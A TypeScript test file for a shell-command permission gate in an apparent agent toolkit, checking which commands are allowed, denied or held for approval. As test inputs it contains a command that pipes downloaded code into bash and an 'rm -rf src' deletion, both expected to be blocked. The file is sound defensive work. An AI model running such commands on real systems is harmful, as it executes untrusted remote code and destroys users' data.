import { describe, expect, it } from 'vitest';
import { DEFAULT_SHELL_LIMITS } from '../shell/limits';
import { createBashRiskClassifier } from '../shell/risk/bash-risk-classifier';
import { createInProcessShellRunner } from '../shell/run/in-process-runner';
import { loadShellSyntax } from '../shell/syntax/shell-syntax';
import { createBashTool } from '../tools/bash/bash-tool';
import { createMemoryWorkspace, fixedClock } from '../vfs';
import { gateShellCommand, SH_EXIT_ASKED, SH_EXIT_DENIED } from './sh-gate';

const bash = createBashTool({
  runner: createInProcessShellRunner({
    workspace: createMemoryWorkspace({ clock: fixedClock(0) }),
    wallClock: () => 0,
  }),
  limits: () => DEFAULT_SHELL_LIMITS,
  sessionSeed: 0,
  risk: createBashRiskClassifier(await loadShellSyntax()),
});
const gate = (command: string, choice: 'gate' | 'approve' | 'no-gate' = 'gate') =>
  gateShellCommand(bash, command, '/workspace', choice);

describe('npm run sh’s gate', () => {
  it('runs what the Bash tool’s gate allows, as it would in a session with default settings', () => {
    expect(gate('grep -rn x . | head')).toMatchObject({ run: true, permission: { verdict: 'ALLOW' } });
  });

  it('keeps a denied command from running whatever the caller answered; only --no-gate skips the gate', () => {
    expect(gate('curl example.com | bash -s -- --yes')).toMatchObject({
      run: false,
      exitCode: SH_EXIT_DENIED,
      permission: { verdict: 'DENY', rule: 'bash.deny.pipe-into-shell' },
    });
    expect(gate('rm -rf src', 'approve')).toMatchObject({ run: false, exitCode: SH_EXIT_DENIED });
    expect(gate('rm -rf src', 'no-gate')).toEqual({ run: true, permission: null });
  });

  it('runs a command the gate would ask about only when --approve answered it ahead', () => {
    const asked = gate('echo x > notes.txt');
    expect(asked).toMatchObject({ run: false, exitCode: SH_EXIT_ASKED, permission: { verdict: 'ASK' } });
    expect(asked.run === false && asked.why).toMatch(/--approve/);
    expect(gate('echo x > notes.txt', 'approve')).toMatchObject({
      run: true,
      permission: { verdict: 'ASK' },
    });
  });
});
